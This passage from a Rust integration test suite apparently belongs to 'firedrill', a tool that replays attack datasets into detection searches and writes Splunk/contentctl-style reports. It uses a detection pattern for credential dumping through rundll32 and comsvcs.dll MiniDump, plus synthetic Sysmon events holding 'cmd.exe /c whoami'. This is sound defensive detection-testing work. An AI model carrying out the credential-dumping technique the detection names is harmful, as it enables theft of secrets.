//! The command line end to end: detections, a dataset server on 127.0.0.1 standing in
//! for attack_data (via `--mirror`), the cache, the lock file and the reports.

mod common;

use assert_cmd::Command;
use common::{workdir, Reply, Server};
use predicates::prelude::*;
use std::path::Path;

const DATASET: &str = "/datasets/attack_techniques/T1003.001/firedrill_example/windows-sysmon.log";

fn example_bytes() -> Vec<u8> {
    std::fs::read(Path::new("examples/attack_data").join(DATASET.trim_start_matches('/'))).unwrap()
}

fn firedrill() -> Command {
    Command::cargo_bin("firedrill").unwrap()
}

fn run_json(dir: &Path, det: &Path, extra: &[&str]) -> (i32, serde_json::Value, String) {
    let data = dir.join("cache");
    let mut cmd = firedrill();
    cmd.arg("run")
        .arg(det)
        .arg("--data")
        .arg(&data)
        .args(["--format", "json"])
        .args(extra);
    let out = cmd.output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let json = serde_json::from_str(&stdout).unwrap_or(serde_json::Value::Null);
    (
        out.status.code().unwrap_or(-1),
        json,
        String::from_utf8_lossy(&out.stderr).to_string(),
    )
}

#[test]
fn downloads_then_reuses_the_cache() {
    let server = Server::start();
    server.route(DATASET, Reply::Body(example_bytes()));
    let (dir, det) = workdir();
    let (code, json, err) = run_json(dir.path(), &det, &["--mirror", &server.url]);
    assert_eq!(code, 0, "stderr: {err}\n{json}");
    let d = &json["detections"][0];
    assert_eq!(d["status"], "pass");
    assert_eq!(d["results"], 2);
    assert_eq!(d["tests"][0]["datasets"][0]["downloaded"], true);
    assert!(d["risk"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["object"] == "dest" && r["score"] == 64.0));
    assert_eq!(server.hits(DATASET), 1);
    let cached = dir
        .path()
        .join("cache")
        .join(DATASET.trim_start_matches('/'));
    assert!(cached.is_file(), "cache mirrors the upstream path");
    let lock = std::fs::read_to_string(dir.path().join("cache/firedrill.lock")).unwrap();
    assert!(
        lock.contains("windows-sysmon.log"),
        "lock file records the dataset: {lock}"
    );

    let (code, json, _) = run_json(dir.path(), &det, &["--mirror", &server.url]);
    assert_eq!(code, 0);
    assert_eq!(
        json["detections"][0]["tests"][0]["datasets"][0]["downloaded"],
        false
    );
    assert_eq!(
        server.hits(DATASET),
        1,
        "second run must not download again"
    );
}

#[test]
fn offline_uses_the_cache_and_names_what_is_missing() {
    let (dir, det) = workdir();
    let (code, json, _) = run_json(dir.path(), &det, &["--offline"]);
    assert_eq!(code, 1);
    let d = &json["detections"][0];
    assert_eq!(d["status"], "error");
    let reason = d["reason"].as_str().unwrap();
    assert!(reason.contains("windows-sysmon.log"), "{reason}");

    let server = Server::start();
    server.route(DATASET, Reply::Body(example_bytes()));
    firedrill()
        .arg("fetch")
        .arg(&det)
        .arg("--data")
        .arg(dir.path().join("cache"))
        .args(["--mirror", &server.url])
        .assert()
        .success();
    let (code, json, _) = run_json(dir.path(), &det, &["--offline"]);
    assert_eq!(code, 0, "{json}");
    assert_eq!(json["detections"][0]["status"], "pass");
}

#[test]
fn a_corrupted_cache_file_is_an_error_naming_it() {
    let server = Server::start();
    server.route(DATASET, Reply::Body(example_bytes()));
    let (dir, det) = workdir();
    let (code, _, _) = run_json(dir.path(), &det, &["--mirror", &server.url]);
    assert_eq!(code, 0);
    let cached = dir
        .path()
        .join("cache")
        .join(DATASET.trim_start_matches('/'));
    let mut bytes = std::fs::read(&cached).unwrap();
    bytes[100] ^= 0x20;
    std::fs::write(&cached, bytes).unwrap();
    let (code, json, _) = run_json(dir.path(), &det, &["--mirror", &server.url]);
    assert_eq!(code, 1);
    let reason = json["detections"][0]["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(reason.contains("windows-sysmon.log"), "{reason}");
    assert_eq!(server.hits(DATASET), 1, "no silent re-download");
}

#[test]
fn an_html_page_an_empty_body_and_a_huge_one_are_errors_not_datasets() {
    let server = Server::start();
    let (dir, det) = workdir();
    let page = b"<!DOCTYPE html><html><body>Rate limit exceeded</body></html>".to_vec();
    for (reply, want) in [
        (Reply::Body(page), "HTML page"),
        (Reply::Body(Vec::new()), "empty body"),
        (Reply::Announce(9 << 30), "GiB a dataset may have"),
    ] {
        server.route(DATASET, reply);
        let (code, json, all) = run_json(dir.path(), &det, &["--mirror", &server.url]);
        assert_eq!(code, 1, "{all}");
        let d = &json["detections"][0];
        assert_eq!(d["status"], "error", "{want}: {d}");
        assert!(d["reason"].as_str().unwrap().contains(want), "{d}");
        let cached = dir
            .path()
            .join("cache")
            .join(DATASET.trim_start_matches('/'));
        assert!(!cached.exists(), "{want}: nothing cached");
        let lock =
            std::fs::read_to_string(dir.path().join("cache/firedrill.lock")).unwrap_or_default();
        assert!(
            !lock.contains("windows-sysmon.log"),
            "{want}: nothing locked: {lock}"
        );
    }
}

#[test]
fn a_404_and_a_truncated_body_are_errors() {
    let server = Server::start();
    let (dir, det) = workdir();
    let (code, json, _) = run_json(dir.path(), &det, &["--mirror", &server.url]);
    assert_eq!(code, 1);
    let reason = json["detections"][0]["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        reason.contains("404") || reason.to_lowercase().contains("not found"),
        "{reason}"
    );

    let bytes = example_bytes();
    let half = bytes.len() / 2;
    server.route(DATASET, Reply::Truncated(bytes, half));
    let (code, json, _) = run_json(dir.path(), &det, &["--mirror", &server.url]);
    assert_eq!(code, 1);
    let reason = json["detections"][0]["reason"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(!reason.is_empty());
    let cached = dir
        .path()
        .join("cache")
        .join(DATASET.trim_start_matches('/'));
    assert!(
        !cached.exists(),
        "a truncated download leaves no file behind"
    );
}

#[test]
fn bundled_examples_pass_with_junit() {
    let dir = tempfile::tempdir().unwrap();
    let junit = dir.path().join("junit.xml");
    firedrill()
        .args([
            "run",
            "examples",
            "--data",
            "examples/attack_data",
            "--expectations",
            "examples/expectations",
            "--offline",
            "--junit",
        ])
        .arg(&junit)
        .assert()
        .success()
        .stdout(predicate::str::contains("4 passed, 0 failed"));
    let xml = std::fs::read_to_string(&junit).unwrap();
    assert!(
        xml.contains("<testsuite name=\"firedrill\" tests=\"4\" failures=\"0\""),
        "{xml}"
    );
}

#[test]
fn usage_errors_exit_2() {
    firedrill()
        .args(["run", "no/such/path.yml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no/such/path.yml"));
    firedrill().args(["run"]).assert().code(2);
    firedrill()
        .args(["run", "x", "--format", "xml"])
        .assert()
        .code(2);
}

#[test]
fn a_bad_search_is_an_error_with_a_caret() {
    let (dir, det) = workdir();
    let text = std::fs::read_to_string(&det)
        .unwrap()
        .replace("| `drop_dm_object_name(Processes)`", "| where (a=1");
    std::fs::write(&det, text).unwrap();
    let out = firedrill()
        .arg("run")
        .arg(&det)
        .arg("--data")
        .arg(dir.path().join("cache"))
        .arg("--offline")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("ERROR"), "{stdout}");
    assert!(stdout.contains('^'), "{stdout}");
}

/// summary.yml as contentctl 4.4 writes it, read back with contentctl's own field
/// names and types (`getSummaryObject`, `get_summary`, `get_summary_dict`); unknown or
/// missing fields fail the read. Every field is declared, with contentctl's type, so that
/// reading checks it even when no assertion looks at it.
#[allow(dead_code)]
mod contentctl_summary {
    use serde::Deserialize;

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    pub struct File {
        pub summary: Summary,
        pub tested_detections: Vec<Detection>,
        pub skipped_detections: Vec<Detection>,
        pub untested_detections: Vec<Detection>,
        pub percent_complete: String,
    }

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    pub struct Summary {
        pub mode: String,
        pub enable_integration_testing: bool,
        pub success: bool,
        pub total_detections: u64,
        pub total_tested_detections: u64,
        pub total_pass: u64,
        pub total_fail: u64,
        pub total_skipped: u64,
        pub total_untested: u64,
        pub total_production: u64,
        pub total_experimental: u64,
        pub total_deprecated: u64,
        pub total_manual: u64,
        pub success_rate: String,
    }

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    pub struct Detection {
        pub name: String,
        #[serde(rename = "type")]
        pub kind: String,
        pub production_status: String,
        pub status: String,
        pub source_category: String,
        pub data_source: Vec<String>,
        pub search: String,
        pub file_path: String,
        pub manual_test: Option<String>,
        pub success: bool,
        pub tests: Vec<Test>,
    }

    /// A test with a result, or one never run (`NO RESULT - Test not run`).
    #[derive(Deserialize)]
    #[serde(untagged)]
    pub enum Test {
        Result(TestResult),
        NotRun(NotRun),
    }

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    #[allow(non_snake_case)]
    pub struct TestResult {
        pub name: String,
        pub test_type: String,
        pub success: bool,
        pub message: Option<String>,
        pub exception: Option<String>,
        pub status: Option<String>,
        pub duration: f64,
        pub wait_duration: Option<u64>,
        pub resultCount: Option<String>,
        pub runDuration: Option<String>,
    }

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    pub struct NotRun {
        pub name: String,
        pub test_type: String,
        pub success: bool,
        pub message: String,
    }

    impl Test {
        pub fn result(&self) -> &TestResult {
            match self {
                Test::Result(r) => r,
                Test::NotRun(n) => panic!("{} was not run: {}", n.name, n.message),
            }
        }
    }
}

#[test]
fn writes_contentctl_summary_yml() {
    use contentctl_summary::{File, Test};
    // The v5 example detection and variants of it in every state contentctl reports.
    let (dir, det) = workdir();
    let base = std::fs::read_to_string(&det).unwrap();
    let variant = |file: &str, name: &str, edit: &dyn Fn(String) -> String| {
        let text = base
            .replace("Example - Rundll32 Comsvcs MiniDump", name)
            .replace(
                "example_comsvcs_minidump_filter",
                &format!("{}_filter", file.trim_end_matches(".yml")),
            );
        std::fs::write(det.with_file_name(file), edit(text)).unwrap();
    };
    variant("exp.yml", "Exp Variant", &|t| {
        t.replace("status: production", "status: experimental")
    });
    variant("manual.yml", "Manual Variant", &|t| {
        t.replace(
            "  security_domain: endpoint",
            "  security_domain: endpoint\n  manual_test: needs a baseline",
        )
    });
    variant("nothing.yml", "Nothing Variant", &|t| {
        t.replace("*comsvcs.dll*", "*no-such-dll*")
    });
    variant("unsupported.yml", "Unsupported Variant", &|t| {
        t.replace(
            "| `drop_dm_object_name(Processes)`",
            "| iplocation dest | `drop_dm_object_name(Processes)`",
        )
    });
    let out = dir.path().join("test_results/summary.yml");
    let run = firedrill()
        .arg("run")
        .arg(dir.path().join("content"))
        .args([
            "--data",
            "examples/attack_data",
            "--offline",
            "--summary-yml",
        ])
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(1), "the no-result variant fails");
    let text = std::fs::read_to_string(&out).unwrap();
    let y: File = serde_yaml_ng::from_str(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    let s = &y.summary;
    assert_eq!(s.mode, "all");
    assert!(!s.enable_integration_testing);
    assert!(!s.success, "a failure and an untested detection");
    assert_eq!(
        (
            s.total_pass,
            s.total_fail,
            s.total_skipped,
            s.total_untested
        ),
        (1, 1, 2, 1)
    );
    assert_eq!(s.total_detections, 5);
    assert_eq!(s.total_tested_detections, 2);
    assert_eq!(s.success_rate, "50.0%");
    // Tested and skipped ones only; the manual one is production.
    assert_eq!(
        (s.total_production, s.total_experimental, s.total_manual),
        (3, 1, 1)
    );
    // contentctl's getPercent(len(tested), len(untested)).
    assert_eq!(y.percent_complete, "200.0%");

    // Failures first.
    let names: Vec<&str> = y
        .tested_detections
        .iter()
        .map(|d| d.name.as_str())
        .collect();
    assert_eq!(
        names,
        ["Nothing Variant", "Example - Rundll32 Comsvcs MiniDump"]
    );
    let fail = &y.tested_detections[0];
    assert_eq!((fail.status.as_str(), fail.success), ("fail", false));
    let unit = fail.tests[0].result();
    assert_eq!(unit.test_type, "unit");
    assert_eq!(unit.message.as_deref(), Some("TEST FAILED"));
    assert_eq!(
        unit.exception, None,
        "no results: contentctl records no exception"
    );
    assert_eq!(unit.resultCount.as_deref(), Some("0"));
    let pass = &y.tested_detections[1];
    assert_eq!(pass.source_category, "detections");
    assert_eq!(
        (pass.kind.as_str(), pass.production_status.as_str()),
        ("TTP", "production")
    );
    assert_eq!(pass.data_source, ["Sysmon EventID 1"]);
    assert!(pass.file_path.ends_with("example_comsvcs_minidump.yml"));
    let unit = pass.tests[0].result();
    assert_eq!(
        (unit.message.as_deref(), unit.resultCount.as_deref()),
        (Some("TEST PASSED"), Some("2"))
    );
    assert!(unit.runDuration.as_deref().unwrap().contains('.'));
    // Each unit test is followed by its skipped integration test, a success.
    let integ = pass.tests[1].result();
    assert_eq!(integ.test_type, "integration");
    assert!(integ.success);
    assert_eq!(
        integ.message.as_deref(),
        Some("TEST SKIPPED: Skipping all integration tests")
    );

    let skipped: Vec<(&str, &str, &str)> = y
        .skipped_detections
        .iter()
        .map(|d| {
            let t = d.tests[0].result();
            (
                d.name.as_str(),
                t.test_type.as_str(),
                t.message.as_deref().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        skipped,
        [
            (
                "Exp Variant",
                "unit",
                "TEST SKIPPED: Detection is non-production (experimental)"
            ),
            (
                "Manual Variant",
                "manual",
                "TEST SKIPPED (MANUAL): Detection marked as 'manual_test' with explanation: needs a baseline"
            )
        ]
    );
    assert!(y
        .skipped_detections
        .iter()
        .all(|d| d.success && d.status == "skip"));
    assert_eq!(
        y.skipped_detections[1].manual_test.as_deref(),
        Some("needs a baseline")
    );
    assert_eq!(
        y.skipped_detections[1].tests.len(),
        1,
        "no integration test for manual"
    );

    let untested = &y.untested_detections[0];
    assert_eq!(untested.name, "Unsupported Variant");
    match &untested.tests[0] {
        Test::NotRun(n) => {
            assert!(!n.success);
            assert!(
                n.message.starts_with("NO RESULT - Test not run"),
                "{}",
                n.message
            );
            assert!(n.message.contains("iplocation"), "{}", n.message);
        }
        Test::Result(_) => panic!("the unsupported test has no result"),
    }

    // Files named one by one: `selected`, and with no untested detections contentctl's
    // percent_complete is UKNOWN (its own spelling).
    let out2 = dir.path().join("selected.yml");
    firedrill()
        .arg("run")
        .arg(&det)
        .args([
            "--data",
            "examples/attack_data",
            "--offline",
            "--summary-yml",
        ])
        .arg(&out2)
        .assert()
        .success();
    let y2: File = serde_yaml_ng::from_str(&std::fs::read_to_string(&out2).unwrap()).unwrap();
    assert_eq!(y2.summary.mode, "selected");
    assert_eq!(y2.percent_complete, "UKNOWN");
    assert_eq!(y2.summary.success_rate, "100.0%");
}

const SYSMON: &str = "examples/attack_data/datasets/attack_techniques/T1003.001/firedrill_example/windows-sysmon.log";

fn hec_sink(token: &str) -> firedrill_replay::Sink {
    firedrill_replay::Sink::start(
        firedrill_replay::SinkOptions {
            token: token.into(),
            ack: true,
            busy_every: 2,
            ..Default::default()
        },
        0,
    )
    .unwrap()
}

#[test]
fn replays_a_dataset_into_hec() {
    let sink = hec_sink("tok-123");
    let out = firedrill()
        .env("SPLUNK_HEC_TOKEN", "tok-123")
        .args([
            "replay",
            SYSMON,
            "--hec",
            sink.url(),
            "--ack",
            "--index",
            "attack",
            "--format",
            "json",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sum: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(sum["events"], 5);
    assert_eq!(sum["acknowledged"], 5);
    // The sink answers every other request busy: each retry is said, with why.
    assert!(sum["retries"].as_u64().unwrap() > 0, "{sum}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("retrying a batch, attempt 1 of") && stderr.contains("503"),
        "{stderr}"
    );
    assert_eq!(sum["failed"], 0);
    let got = sink.events();
    assert_eq!(got.len(), 5, "every XML event arrived once");
    assert!(got.iter().all(|e| e.index.as_deref() == Some("attack")));
    assert!(got
        .iter()
        .all(|e| e.sourcetype.as_deref() == Some("XmlWinEventLog")));
    assert!(got[0].raw.starts_with("<Event") && got[0].raw.ends_with("</Event>"));
}

#[test]
fn replays_the_datasets_a_detection_names_with_shifted_times() {
    let sink = hec_sink("tok-123");
    let out = firedrill()
        .env("SPLUNK_HEC_TOKEN", "tok-123")
        .args([
            "replay",
            "examples/detections/endpoint/example_comsvcs_minidump.yml",
            "--data",
            "examples/attack_data",
            "--offline",
            "--hec",
            sink.url(),
            "--endpoint",
            "event",
            "--shift-time",
            "2030-01-01T00:00:00Z",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got = sink.events();
    assert_eq!(got.len(), 5);
    let newest = got.iter().filter_map(|e| e.time).fold(f64::MIN, f64::max);
    assert_eq!(
        newest, 1_893_456_000.0,
        "the newest event lands at the target time"
    );
}

#[test]
fn a_bad_hec_token_fails_without_printing_it() {
    let sink = hec_sink("right");
    let out = firedrill()
        .env("SPLUNK_HEC_TOKEN", "wrong-secret-token")
        .args(["replay", SYSMON, "--hec", sink.url()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(all.contains("Invalid token"), "{all}");
    assert!(!all.contains("wrong-secret-token"), "token leaked: {all}");
    // The counts are printed with the error.
    assert!(all.contains(": 0 accepted,"), "{all}");
    firedrill()
        .env_remove("SPLUNK_HEC_TOKEN")
        .args(["replay", SYSMON, "--hec", sink.url()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("SPLUNK_HEC_TOKEN"));
    // A token written into the URL is refused, and not printed.
    let with_token = sink
        .url()
        .replacen("http://", "http://x:url-secret-token@", 1);
    for url in [
        with_token,
        format!("{}/?token=url-secret-token", sink.url()),
    ] {
        let out = firedrill()
            .env("SPLUNK_HEC_TOKEN", "right")
            .args(["replay", SYSMON, "--hec", &url])
            .output()
            .unwrap();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(out.status.code(), Some(2), "{all}");
        assert!(all.contains("carries credentials"), "{all}");
        assert!(!all.contains("url-secret-token"), "token leaked: {all}");
    }
}

/// A stand-in Splunk: HEC and the REST search API on one port, answering searches by
/// expanding the content's macros and running them over what it received — or, with
/// `disagree`, always answering no results.
fn fake_splunk(disagree: bool) -> firedrill_replay::Sink {
    let sink = hec_sink("tok-123");
    let content = firedrill_content::load_content(Path::new("examples"));
    sink.set_search_handler(std::sync::Arc::new(
        move |search: &str, received: &[firedrill_replay::ReceivedEvent]| {
            if disagree || search.contains("| delete") {
                return Ok(Vec::new());
            }
            let expanded = firedrill_content::expand_macros(search, &content.macros)
                .map_err(|e| e.to_string())?
                .text;
            let pipeline = firedrill_spl::parse(&expanded).map_err(|e| e.to_string())?;
            let program = firedrill_spl::compile(&pipeline, &firedrill_spl::NoLookups)
                .map_err(|e| e.to_string())?;
            let mut events = Vec::new();
            for r in received {
                let meta = firedrill_events::SourceMeta {
                    source: r.source.clone(),
                    sourcetype: r.sourcetype.clone(),
                    host: r.host.clone(),
                };
                events.extend(
                    firedrill_events::read_events(r.raw.as_bytes(), &meta)
                        .map_err(|e| e.to_string())?
                        .events,
                );
            }
            // As a Splunk with the add-ons installed: the built-in apps' fields.
            let addons = firedrill_addons::builtin::get();
            for e in &mut events {
                firedrill_events::SearchTime::apply(
                    &*addons,
                    &mut e.fields,
                    &firedrill_value::Want::everything(),
                );
            }
            let rows =
                firedrill::run::search_events(&program, &events).map_err(|e| e.to_string())?;
            Ok(rows
                .into_iter()
                .map(|r| {
                    r.into_iter()
                        .map(|(k, v)| (k, serde_json::Value::String(v.to_string())))
                        .collect()
                })
                .collect())
        },
    ));
    sink
}

fn differential_run(sink: &firedrill_replay::Sink) -> (i32, serde_json::Value) {
    let out = firedrill()
        .env("SPLUNK_HEC_TOKEN", "tok-123")
        .env("SPLUNK_TOKEN", "tok-123")
        .args([
            "run",
            "examples/detections/endpoint/example_comsvcs_minidump.yml",
            "--data",
            "examples/attack_data",
            "--offline",
            "--format",
            "json",
            "--splunk",
            sink.url(),
            "--hec",
            sink.url(),
        ])
        .output()
        .unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (out.status.code().unwrap_or(-1), json)
}

#[test]
fn the_differential_check_agrees_with_a_splunk_that_agrees() {
    let sink = fake_splunk(false);
    let (code, json) = differential_run(&sink);
    let t = &json["detections"][0]["tests"][0];
    assert_eq!(code, 0, "{json}");
    assert_eq!(t["splunk"]["results"], 2);
    assert_eq!(t["splunk"]["agree"], true);
    assert_eq!(
        sink.events().len(),
        5,
        "the test data was replayed into Splunk"
    );
    assert!(sink.events().iter().all(|e| e
        .index
        .as_deref()
        .is_some_and(|i| i.starts_with("firedrill_"))));
}

#[test]
fn a_disagreement_with_splunk_fails_with_both_answers() {
    let sink = fake_splunk(true);
    let (code, json) = differential_run(&sink);
    let d = &json["detections"][0];
    assert_eq!(code, 1, "{json}");
    assert_eq!(d["status"], "fail");
    let reason = d["reason"].as_str().unwrap();
    assert!(
        reason.contains("Splunk returned 0 results") && reason.contains("firedrill 2"),
        "{reason}"
    );
}

#[test]
fn strict_makes_skips_fail() {
    let (dir, det) = workdir();
    // A search using a command firedrill names as unsupported.
    let text = std::fs::read_to_string(&det).unwrap().replace(
        "| `drop_dm_object_name(Processes)`",
        "| iplocation dest | `drop_dm_object_name(Processes)`",
    );
    std::fs::write(&det, text).unwrap();
    let run = |strict: bool| {
        let mut c = firedrill();
        c.arg("run")
            .arg(&det)
            .arg("--data")
            .arg(dir.path().join("cache"))
            .arg("--offline");
        if strict {
            c.arg("--strict");
        }
        c.output().unwrap()
    };
    let relaxed = run(false);
    assert_eq!(relaxed.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&relaxed.stdout).contains("iplocation"));
    assert_eq!(run(true).status.code(), Some(1));
}

fn run_dir_json(dir: &Path, extra: &[&str]) -> (i32, serde_json::Value) {
    let out = firedrill()
        .arg("run")
        .arg(dir.join("content"))
        .args([
            "--data",
            "examples/attack_data",
            "--offline",
            "--format",
            "json",
        ])
        .args(extra)
        .output()
        .unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (out.status.code().unwrap_or(-1), json)
}

fn entry<'a>(json: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    json["detections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["name"] == name)
        .unwrap_or_else(|| panic!("{name} not in {json}"))
}

#[test]
fn selection_as_contentctl_does_it_and_deprecated_never_fails() {
    let (dir, det) = workdir();
    let base = std::fs::read_to_string(&det).unwrap();
    let variant = |file: &str, name: &str, status: &str, broken: bool| {
        let mut t = base
            .replace("Example - Rundll32 Comsvcs MiniDump", name)
            .replace("status: production", &format!("status: {status}"));
        if broken {
            t = t.replace("| `drop_dm_object_name(Processes)`", "| where (a=1");
        }
        std::fs::write(det.with_file_name(file), t).unwrap();
    };
    variant("old.yml", "Old Broken", "deprecated", true);
    variant("new.yml", "New Experimental", "experimental", false);

    let (code, json) = run_dir_json(dir.path(), &[]);
    assert_eq!(code, 0, "{json}");
    let old = entry(&json, "Old Broken");
    assert_eq!(old["selected"], false);
    assert_eq!(old["status"], "skip");
    assert!(old["selection_reason"]
        .as_str()
        .unwrap()
        .contains("status deprecated"));
    assert!(old["reason"].as_str().unwrap().starts_with("not selected"));
    assert_eq!(entry(&json, "New Experimental")["selected"], false);
    assert_eq!(
        entry(&json, "Example - Rundll32 Comsvcs MiniDump")["selected"],
        true
    );
    assert!(entry(&json, "Example - Rundll32 Comsvcs MiniDump")
        .get("selection_reason")
        .is_none());

    let (code, json) = run_dir_json(dir.path(), &["--include-experimental"]);
    assert_eq!(code, 0);
    assert_eq!(entry(&json, "New Experimental")["status"], "pass");
    assert_eq!(entry(&json, "Old Broken")["selected"], false);

    // --all runs the deprecated one: its search does not parse, which is an error in
    // the report but never fails the run.
    let (code, json) = run_dir_json(dir.path(), &["--all"]);
    let old = entry(&json, "Old Broken");
    assert_eq!(old["selected"], true);
    assert_eq!(old["status"], "error");
    assert_eq!(code, 0, "a deprecated detection never fails a run: {json}");
}

fn run_example_data(det: &Path, extra: &[&str]) -> (i32, serde_json::Value) {
    let out = firedrill()
        .arg("run")
        .arg(det)
        .args([
            "--data",
            "examples/attack_data",
            "--offline",
            "--format",
            "json",
        ])
        .args(extra)
        .output()
        .unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (out.status.code().unwrap_or(-1), json)
}

#[test]
fn the_first_complete_row_passes_and_strict_wants_every_row() {
    let (_dir, det) = workdir();
    // `victim` is only set on the first row (groups sort by dest: srv-db-02 first);
    // `marker`, a threat object, only on the second.
    let text = std::fs::read_to_string(&det)
        .unwrap()
        .replace(
            "| `example_comsvcs_minidump_filter`",
            "| eval victim=if(dest=\"srv-db-02.corp.example\", \"v\", null()) | `example_comsvcs_minidump_filter`",
        )
        .replace(
            "  - field: user\n    type: user\n    score: 64\n",
            "  - field: victim\n    type: other\n    score: 64\n",
        );
    std::fs::write(&det, text).unwrap();
    let (code, json) = run_example_data(&det, &[]);
    let d = &json["detections"][0];
    assert_eq!(code, 0, "{json}");
    assert_eq!(d["status"], "pass");
    assert_eq!(d["tests"][0]["outcome"]["kind"], "passed");
    assert_eq!(d["tests"][0]["outcome"]["row"], 1);
    assert!(d["reason"].as_str().unwrap().contains("passed on row 1"));

    let (code, json) = run_example_data(&det, &["--pass-rule", "strict"]);
    let d = &json["detections"][0];
    assert_eq!(code, 1);
    assert_eq!(d["status"], "fail");
    let reason = d["reason"].as_str().unwrap();
    assert!(
        reason.contains("`victim` is missing or `null` in 1 of 2 rows (first: row 2)"),
        "{reason}"
    );
    assert_eq!(d["tests"][0]["outcome"]["kind"], "incomplete");

    // Reversed: a row without a risk-object field comes first and fails at once.
    let text = std::fs::read_to_string(&det).unwrap().replace(
        "dest=\"srv-db-02.corp.example\"",
        "dest=\"ws-finance-07.corp.example\"",
    );
    std::fs::write(&det, text).unwrap();
    let (code, json) = run_example_data(&det, &[]);
    let d = &json["detections"][0];
    assert_eq!(code, 1);
    assert_eq!(d["reason"], "row 1: risk-object field `victim` missing");
    assert_eq!(d["tests"][0]["outcome"]["kind"], "risk_field_missing");
}

/// A detection alone over a file skips events by their text, and still finds what it
/// looks for where the event's text spells it differently from the field: `>` kept as
/// `&gt;`, a value after a child element, a character reference.
#[test]
fn a_detection_alone_finds_text_the_event_spells_otherwise() {
    let dir = tempfile::tempdir().unwrap();
    let event = |n: usize, cmd: &str| {
        format!(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><EventRecordID>{n}</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws1</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\PING.EXE</Data><Data Name='CommandLine'>{cmd}</Data></EventData></Event>\r\n"
        )
    };
    let text = [
        event(1, "ping -n 30 127.0.0.1 > Nul"),
        event(2, "ping -n 31 127.0.0.1 &gt; Nul"),
        event(3, "ping -n 32 127.0.0.1 &#62; Nul"),
        event(4, "ping -n 30 127.0.0.1"),
        event(5, "cmd.exe /c whoami"),
    ]
    .concat();
    let data = dir.path().join("ping.log");
    std::fs::write(&data, text).unwrap();
    let det = dir.path().join("ping.yml");
    std::fs::write(
        &det,
        "name: Ping Redirected\nid: 00000000-0000-4000-8000-000000000123\ntype: TTP\nsearch: '| tstats count from datamodel=Endpoint.Processes where Processes.process=\"*&gt; Nul*\" by Processes.process | `drop_dm_object_name(Processes)`'\n",
    )
    .unwrap();
    let out = firedrill()
        .args(["run"])
        .arg(&det)
        .arg("--dataset")
        .arg(&data)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let t = &json["detections"][0]["tests"][0];
    assert_eq!(t["results"], 3, "{json}");
    assert_eq!(json["summary"]["events"], 5, "{json}");
}

/// `run --dataset FILE`: every detection over the given files instead of its tests,
/// reporting per detection and file whether it fired and how many results.
#[test]
fn run_over_given_datasets_reports_what_fires() {
    let security = SYSMON.replace("windows-sysmon.log", "windows-security.log");
    let out = firedrill()
        .args([
            "run",
            "examples",
            "--dataset",
            SYSMON,
            "--dataset",
            &security,
            "--format",
            "json",
        ])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["mode"], "datasets");
    let d = entry(&json, "Example - Renamed Rundll32");
    assert_eq!(d["status"], "pass");
    let tests = d["tests"].as_array().unwrap();
    // One entry per file it fired on; the quiet Security log is only counted.
    assert_eq!(tests.len(), 1);
    assert_eq!(tests[0]["results"], 1);
    assert!(tests[0]["name"]
        .as_str()
        .unwrap()
        .ends_with("windows-sysmon.log"));
    assert!(d["reason"]
        .as_str()
        .unwrap()
        .starts_with("fired on 1 of 2 files"));
    // Quiet on a file without the attack is not a failure of the run.
    let quiet = firedrill()
        .args([
            "run",
            "examples/detections/endpoint/example_renamed_rundll32.yml",
            "--dataset",
            &security,
        ])
        .assert()
        .code(0);
    let text = String::from_utf8_lossy(&quiet.get_output().stdout).to_string();
    assert!(
        text.contains("quiet") && text.contains("no results on any of 1 files"),
        "{text}"
    );
    firedrill()
        .args(["run", "examples", "--dataset", "no/such/file.log"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no/such/file.log"));
}

/// `| from datamodel Web.Web` (how the log4shell detections read web events): the
/// dataset's events with their own field names, `_raw` included.
#[test]
